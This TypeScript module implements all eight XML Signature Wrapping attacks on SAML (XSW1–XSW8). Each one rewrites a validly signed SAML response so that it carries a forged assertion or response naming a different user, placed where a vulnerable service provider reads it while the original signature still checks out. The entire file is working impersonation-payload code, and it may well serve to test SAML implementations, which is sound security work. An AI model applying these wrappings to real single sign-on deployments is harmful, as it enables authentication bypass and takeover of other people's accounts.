/**
 * The eight known ways to have a signature verified in one place and something else read in another ("On Breaking SAML",
 * USENIX Security 2012), as changes of a response that is validly signed.
 */
export interface Wrapping {
  readonly name: string;
  /** What is signed in the response that is wrapped. */
  readonly signs: "response" | "assertion";
  wrap(xml: string, to: Impersonation): string;
}

export interface Impersonation {
  /** The name that the response honestly has. */
  readonly from: string;
  readonly nameId: string;
  readonly email: string;
}

const SIGNATURE = /<(?:ds:)?Signature[ >][\s\S]*?<\/(?:ds:)?Signature>/;
const ASSERTION = /<saml:Assertion[ >][\s\S]*<\/saml:Assertion>/;

const find = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`there is no ${pattern.source} in ${xml.slice(0, 300)}`);
  return found;
};

const withoutSignature = (xml: string): string => xml.replace(SIGNATURE, "");

/** The same for someone else, under another id, and without a signature of its own. */
const forged = (xml: string, { from, nameId, email }: Impersonation): string =>
  withoutSignature(xml)
    .replace(/ ID="[^"]+"/, ' ID="_forged"')
    .replaceAll(`${from}@example.com`, email)
    .replaceAll(`>${from}<`, `>${nameId}<`);

const inside = (outer: string, inner: string): string => outer.replace(/(<\/[^>]+>)$/, `${inner}$1`);
const afterIssuer = (xml: string, added: string): string => xml.replace(/(<\/saml:Issuer>)/, `$1${added}`);
const inObject = (xml: string): string => `<Object>${xml}</Object>`;

const assertions = (xml: string, to: Impersonation) => {
  const original = find(xml, ASSERTION);
  const signature = find(original, SIGNATURE);
  return { original, signature, bare: withoutSignature(original), evil: forged(original, to) };
};

export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: "XSW1: a forged response around the signature, which holds the original",
    signs: "response",
    wrap(xml, to) {
      const signature = find(xml, SIGNATURE);
      return afterIssuer(forged(xml, to), inside(signature, inObject(withoutSignature(xml))));
    },
  },
  {
    name: "XSW2: a forged response with the original before its signature",
    signs: "response",
    wrap(xml, to) {
      const signature = find(xml, SIGNATURE);
      return afterIssuer(forged(xml, to), withoutSignature(xml) + signature);
    },
  },
  {
    name: "XSW3: a forged assertion before the original",
    signs: "assertion",
    wrap(xml, to) {
      const { original, evil } = assertions(xml, to);
      return xml.replace(original, evil + original);
    },
  },
  {
    name: "XSW4: a forged assertion that holds the original",
    signs: "assertion",
    wrap(xml, to) {
      const { original, evil } = assertions(xml, to);
      return xml.replace(original, inside(evil, original));
    },
  },
  {
    name: "XSW5: a forged assertion with the original's signature, and the original at the end",
    signs: "assertion",
    wrap(xml, to) {
      const { original, signature, bare, evil } = assertions(xml, to);
      return xml.replace(original, afterIssuer(evil, signature) + bare);
    },
  },
  {
    name: "XSW6: a forged assertion whose signature holds the original",
    signs: "assertion",
    wrap(xml, to) {
      const { original, signature, bare, evil } = assertions(xml, to);
      return xml.replace(original, afterIssuer(evil, inside(signature, bare)));
    },
  },
  {
    name: "XSW7: a forged assertion among extensions, before the original",
    signs: "assertion",
    wrap(xml, to) {
      const { original, evil } = assertions(xml, to);
      return xml.replace(original, `<samlp:Extensions>${evil}</samlp:Extensions>${original}`);
    },
  },
  {
    name: "XSW8: a forged assertion whose signature has the original as an object",
    signs: "assertion",
    wrap(xml, to) {
      const { original, signature, bare, evil } = assertions(xml, to);
      return xml.replace(original, afterIssuer(evil, inside(signature, inObject(bare))));
    },
  },
];
